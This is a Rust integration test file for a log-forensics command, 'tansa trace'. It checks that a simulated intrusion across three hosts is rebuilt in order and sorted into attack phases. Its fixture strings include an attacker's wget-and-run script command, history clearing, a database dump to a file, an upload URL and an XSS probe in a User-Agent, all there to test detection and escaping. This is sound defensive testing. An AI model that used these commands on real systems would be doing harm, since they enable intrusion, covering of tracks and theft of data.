//! `tansa trace` on the bundled two-host intrusion (examples/logs): web01 writes traditional
//! syslog in Asia/Tokyo local time without a year and nginx with +0900; db01 writes RFC 3339
//! syslog, auditd epoch stamps and MySQL UTC. The attacker 45.141.87.23 probes the web server,
//! brute-forces ssh on web01, gets in, escalates, plants an account, downloads and runs a
//! script, clears history, hops to db01 from web01's internal address, dumps the database and
//! uploads it. Benign users (deploy from 192.0.2.10, bob, alice, the app's MySQL connections)
//! work on the same hosts the same day.

mod common;

use std::path::{Path, PathBuf};

use common::{json_lines, root, succeed, tansa};
use serde_json::Value;

fn store(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("tansa-trace-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    analyze_into(&dir, &[]);
    dir
}

/// The bundled sample and the `more` log directories, analyzed into the store at `data`.
fn analyze_into(data: &Path, more: &[&Path]) {
    succeed(
        tansa()
            .args(["--data"])
            .arg(data)
            .args([
                "analyze",
                "--quiet",
                "--timezone",
                "Asia/Tokyo",
                "examples/logs",
            ])
            .args(more),
    );
}

fn trace(data: &Path, args: &[&str]) -> (Value, Vec<Value>) {
    trace_with(data, Path::new("examples/hosts.toml"), args)
}

fn trace_with(data: &Path, hosts: &Path, args: &[&str]) -> (Value, Vec<Value>) {
    let out = succeed(
        tansa()
            .arg("--data")
            .arg(data)
            .args(["--format", "json", "trace", "--hosts"])
            .arg(hosts)
            .args(args),
    );
    let mut lines = json_lines(&out.stdout);
    let summary = lines.remove(0);
    assert_eq!(summary["type"], "summary");
    (summary, lines)
}

/// The step whose raw line contains `needle`: its index, phase and host.
fn find<'a>(steps: &'a [Value], needle: &str) -> (usize, &'a Value) {
    steps
        .iter()
        .enumerate()
        .find(|(_, s)| s["raw"].as_str().unwrap_or("").contains(needle))
        .unwrap_or_else(|| panic!("no step with {needle:?}"))
}

#[test]
fn the_attackers_address_leads_through_both_hosts_in_order() {
    let data = store("chain");
    let (summary, steps) = trace(&data, &["45.141.87.23"]);
    // the whole chain, in this order, each with its host and phase
    let chain = [
        ("GET /.env", "web01", "reconnaissance"),
        (
            "Invalid user test from 45.141.87.23",
            "web01",
            "credential_access",
        ),
        (
            "Accepted password for deploy from 45.141.87.23",
            "web01",
            "initial_access",
        ),
        ("COMMAND=/bin/bash", "web01", "privilege_escalation"),
        (
            "useradd[5543]: new user: name=support",
            "web01",
            "persistence",
        ),
        ("add 'support' to group 'sudo'", "web01", "persistence"),
        (
            "COMMAND=/usr/bin/wget -q http://203.0.113.200/x.sh",
            "web01",
            "execution",
        ),
        ("COMMAND=/bin/sh /tmp/.x.sh", "web01", "execution"),
        (
            "COMMAND=/usr/bin/bash -c history -c",
            "web01",
            "defense_evasion",
        ),
        (
            "Accepted password for deploy from 10.0.0.5",
            "db01",
            "lateral_movement",
        ),
        ("comm=\"id\"", "db01", "discovery"),
        ("comm=\"mysqldump\"", "db01", "collection"),
        ("INTO OUTFILE '/tmp/shop.sql'", "db01", "collection"),
        ("comm=\"curl\"", "db01", "exfiltration"),
        ("comm=\"bash\"", "db01", "defense_evasion"),
    ];
    let mut last = 0;
    for (needle, host, phase) in chain {
        let (i, s) = find(&steps, needle);
        assert!(i >= last, "{needle:?} is out of order");
        last = i;
        assert_eq!(s["host"], host, "{needle}");
        assert_eq!(s["phase"], phase, "{needle}: {s}");
    }
    // time order, UTC, with the host's local time beside it
    let times: Vec<&str> = steps.iter().map(|s| s["time"].as_str().unwrap()).collect();
    assert!(times.windows(2).all(|w| w[0] <= w[1]), "{times:?}");
    let (_, login) = find(&steps, "Accepted password for deploy from 45.141.87.23");
    assert_eq!(login["time"], "2026-03-14T09:14:48Z");
    assert_eq!(login["local"], "2026-03-14 18:14:48 +09:00");
    let (_, curl) = find(&steps, "comm=\"curl\"");
    assert_eq!(curl["local"], "2026-03-14 09:19:58 +00:00");
    // the brute force is one step with its count, not 141 lines
    let (_, brute) = find(&steps, "Invalid user test from 45.141.87.23");
    assert!(brute["count"].as_u64().unwrap() > 100, "{brute}");
    // nothing of the benign users of the same hosts
    for s in &steps {
        let raw = s["raw"].as_str().unwrap();
        for benign in [
            "192.0.2.10",
            "10.0.0.22",
            "10.0.0.21",
            "bob",
            "alice",
            "user: 'app'",
            "'report'",
            "CRON",
            "198.51.100.23",
        ] {
            assert!(!raw.contains(benign), "benign activity in the chain: {raw}");
        }
    }
    // the summary
    assert_eq!(
        summary["summary"]["hosts_reached"],
        serde_json::json!(["db01", "web01"])
    );
    let access = summary["summary"]["access"].to_string();
    assert!(
        access.contains("password login as deploy from 45.141.87.23 on web01"),
        "{access}"
    );
    assert!(access.contains("failed attempts"), "{access}");
    let indicators = summary["indicators"].to_string();
    for i in [
        "203.0.113.200",
        "/tmp/shop.sql",
        "support",
        "http://203.0.113.200/up",
    ] {
        assert!(
            indicators.contains(i),
            "indicator {i} missing: {indicators}"
        );
    }
    let neighbours: Vec<&str> = summary["neighbours"]
        .as_array()
        .unwrap()
        .iter()
        .map(|n| n["ip"].as_str().unwrap())
        .collect();
    assert_eq!(neighbours.len(), 2, "{neighbours:?}");
    assert!(neighbours.contains(&"45.141.87.12") && neighbours.contains(&"45.141.87.19"));
    assert!(summary["alerts"]
        .as_array()
        .unwrap()
        .iter()
        .any(|a| a["severity"] == "critical"));
    let _ = std::fs::remove_dir_all(&data);
}

#[test]
fn every_entity_kind_reaches_the_chain() {
    let data = store("entities");
    // the netblock: members and their roles
    let (summary, steps) = trace(&data, &["45.141.87.0/24"]);
    let nb = &summary["netblock"];
    assert_eq!(nb["members"].as_array().unwrap().len(), 3, "{nb}");
    assert_eq!(nb["got_in"], 1);
    assert_eq!(nb["brute_forcers"], 3);
    assert_eq!(nb["scanners"], 3);
    let m23 = nb["members"]
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["ip"] == "45.141.87.23")
        .unwrap();
    assert!(m23["roles"].to_string().contains("got in"));
    find(&steps, "comm=\"curl\"");
    // a user, a host, an alert on db01 that names no address (traced back through the hop)
    for entity in ["user:deploy", "host:db01"] {
        let (_, steps) = trace(&data, &[entity]);
        find(&steps, "comm=\"curl\"");
        find(&steps, "Accepted password for deploy from 45.141.87.23");
    }
    let out = tansa()
        .arg("--data")
        .arg(&data)
        .args([
            "--format",
            "json",
            "sql",
            "SELECT id FROM alerts WHERE host = 'db01' AND rule_id = 'tansa.host.log_tampering'",
        ])
        .output()
        .unwrap();
    let id = json_lines(&out.stdout)[0]["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let (summary, steps) = trace(&data, &[&id]);
    find(&steps, "Accepted password for deploy from 45.141.87.23");
    assert!(
        summary["notes"].to_string().contains("traced back"),
        "{summary}"
    );
    // without the inventory nothing says 10.0.0.5 is web01: no hop, and a note says why
    let out = tansa()
        .arg("--data")
        .arg(&data)
        .args(["--format", "json", "trace", "45.141.87.23"])
        .output()
        .unwrap();
    let lines = json_lines(&out.stdout);
    assert!(!lines.iter().any(|s| s["raw"]
        .as_str()
        .is_some_and(|r| r.contains("from 10.0.0.5"))));
    assert!(
        lines[0]["notes"].to_string().contains("hosts.toml"),
        "{}",
        lines[0]
    );
    // an ASN without enrichment, and nonsense, are clear errors
    for (bad, msg) in [
        ("AS64500", "source.as.number"),
        ("two words", "not something to trace"),
    ] {
        let out = tansa()
            .arg("--data")
            .arg(&data)
            .args(["trace", bad])
            .output()
            .unwrap();
        assert!(!out.status.success());
        assert!(String::from_utf8_lossy(&out.stderr).contains(msg), "{bad}");
    }
    let _ = std::fs::remove_dir_all(&data);
}

#[test]
fn the_html_page_renders_in_chromium_with_log_text_as_text() {
    let data = store("html");
    let page = data.join("trace.html");
    succeed(
        tansa()
            .arg("--data")
            .arg(&data)
            .args([
                "--format",
                "html",
                "trace",
                "--hosts",
                "examples/hosts.toml",
                "45.141.87.23",
                "-o",
            ])
            .arg(&page),
    );
    let (_, steps) = trace(&data, &["45.141.87.23"]);
    let dom = common::chromium_dom(&page);
    // the browser built the table: one row per step, the phases as data attributes
    assert_eq!(
        dom.matches("<tr class=\"step\"").count(),
        steps.len(),
        "{dom}"
    );
    assert!(dom.contains("data-phase=\"lateral_movement\" data-host=\"db01\""));
    assert!(dom.contains("id=\"summary\""));
    // the scanner's User-Agent carried a script tag: the DOM has it as text, not as an element
    assert!(
        dom.contains("zgrab/0.x &lt;script&gt;alert(1)&lt;/script&gt;"),
        "UA not shown as text"
    );
    assert!(!dom.contains("<script>alert(1)"), "log text became markup");
    let _ = std::fs::remove_dir_all(&data);
    let _ = root();
}

#[test]
fn a_host_whose_clock_was_off_is_placed_where_it_happened() {
    let data = store("clock");
    let (_, before) = trace(&data, &["45.141.87.23"]);
    let step_time = |steps: &[Value], needle: &str| {
        let (i, s) = find(steps, needle);
        (
            i,
            jiff::Timestamp::from_str(s["time"].as_str().unwrap()).unwrap(),
        )
    };
    use std::str::FromStr;
    let (_, t0) = step_time(&before, "mysqldump");
    // the server found db01's clock two hours ahead (what `tansa serve` stores)
    {
        use tansa_store::Backend;
        let mut st = tansa_store::DuckStore::open(&data, None).unwrap();
        let skew = tansa_server::clock::Skew {
            host: "db01".into(),
            offset: 7200 * 1_000_000_000,
            from: 0,
            to: 1,
        };
        st.write_alerts(&[skew.alert()], &|_| None).unwrap();
    }
    let (summary, after) = trace(&data, &["45.141.87.23"]);
    let (_, t1) = step_time(&after, "mysqldump");
    assert_eq!(t0.as_second() - t1.as_second(), 7200, "{t0} → {t1}");
    let notes = summary["notes"].to_string();
    assert!(notes.contains("db01's clock was 7200 s ahead"), "{notes}");
    // the timeline stays in (corrected) time order
    let times: Vec<jiff::Timestamp> = after
        .iter()
        .map(|s| jiff::Timestamp::from_str(s["time"].as_str().unwrap()).unwrap())
        .collect();
    assert!(times.windows(2).all(|w| w[0] <= w[1]));
    let _ = std::fs::remove_dir_all(&data);
}

#[test]
fn ipv6_blocks_are_traced_and_their_neighbours_found() {
    let dir = std::env::temp_dir().join(format!("tansa-trace-v6-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    let log = dir.join("auth.log");
    // two addresses of one /64 brute-force ssh together; one gets in; a third elsewhere
    let mut lines = Vec::new();
    for i in 0..12 {
        for ip in [
            "2001:db8:40:1::7",
            "2001:db8:40:1:0:0:0:8",
            "2001:db8:99::5",
        ] {
            lines.push(format!(
                "Mar 14 10:00:{i:02} web01 sshd[{}]: Failed password for root from {ip} port {} ssh2",
                100 + i,
                40000 + i
            ));
        }
    }
    lines.push(
        "Mar 14 10:01:00 web01 sshd[200]: Accepted password for root from 2001:db8:40:1::7 port 40100 ssh2"
            .into(),
    );
    std::fs::write(&log, lines.join("\n") + "\n").unwrap();
    let data = dir.join("data");
    succeed(
        tansa()
            .arg("--data")
            .arg(&data)
            .args(["analyze", "--quiet", "--timezone", "UTC"])
            .arg(&log),
    );
    let (summary, _) = trace(&data, &["2001:db8:40::/48"]);
    let nb = &summary["netblock"];
    let members: Vec<&str> = nb["members"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["ip"].as_str().unwrap())
        .collect();
    assert_eq!(members.len(), 2, "{nb}");
    assert!(members.contains(&"2001:db8:40:1::7") && members.contains(&"2001:db8:40:1::8"));
    assert_eq!(nb["got_in"], 1, "{nb}");
    // one address: its /64 neighbour acted with it, the other block did not
    let (summary, _) = trace(&data, &["2001:db8:40:1::7"]);
    let n = summary["neighbours"].to_string();
    assert!(n.contains("2001:db8:40:1::8"), "{n}");
    assert!(!n.contains("2001:db8:99::5"), "{n}");
    let _ = std::fs::remove_dir_all(&dir);
}

/// A third host: from db01's session the attacker goes on to bak01 (RFC 3339 syslog at
/// −04:00, New York's summer time, an address only the inventory names). The trace follows the second hop and what
/// the session did there, leaves out bak01's own backup job, and `--depth 1` stops at db01.
#[test]
fn a_second_hop_to_a_third_host_is_followed_within_the_depth() {
    let d = common::fresh_dir("trace", "third-host");
    let fixture = root().join("crates/tansa/tests/data/trace");
    let (logs, hosts) = (fixture.join("bak01"), fixture.join("hosts.toml"));
    let data = d.join("data");
    analyze_into(&data, &[&logs]);
    let (summary, steps) = trace_with(&data, &hosts, &["45.141.87.23"]);
    let (i_db, _) = find(&steps, "Accepted password for deploy from 10.0.0.5");
    let (i_hop, hop) = find(&steps, "Accepted password for deploy from 10.0.0.6");
    assert!(i_hop > i_db, "the second hop comes after the first");
    assert_eq!(hop["host"], "bak01");
    assert_eq!(hop["phase"], "lateral_movement", "{hop}");
    assert_eq!(hop["time"], "2026-03-14T09:19:30Z");
    assert_eq!(hop["local"], "2026-03-14 05:19:30 -04:00");
    let (i_tar, tar) = find(&steps, "COMMAND=/usr/bin/tar czf /tmp/.b.tgz");
    assert!(i_tar > i_hop);
    assert_eq!(tar["host"], "bak01");
    assert!(
        !steps
            .iter()
            .any(|s| s["raw"].as_str().unwrap_or("").contains("backup")
                && !s["raw"].as_str().unwrap_or("").contains("/srv/backups")),
        "bak01's own backup job is not in the chain"
    );
    assert!(!steps
        .iter()
        .any(|s| s["raw"].as_str().unwrap_or("").contains("rsync")));
    assert_eq!(
        summary["summary"]["hosts_reached"],
        serde_json::json!(["bak01", "db01", "web01"])
    );
    // one hop only: db01 is reached, bak01 is not
    let (summary, steps) = trace_with(&data, &hosts, &["45.141.87.23", "--depth", "1"]);
    assert!(!steps.iter().any(|s| s["host"] == "bak01"));
    assert_eq!(
        summary["summary"]["hosts_reached"],
        serde_json::json!(["db01", "web01"])
    );
    let _ = std::fs::remove_dir_all(&d);
}
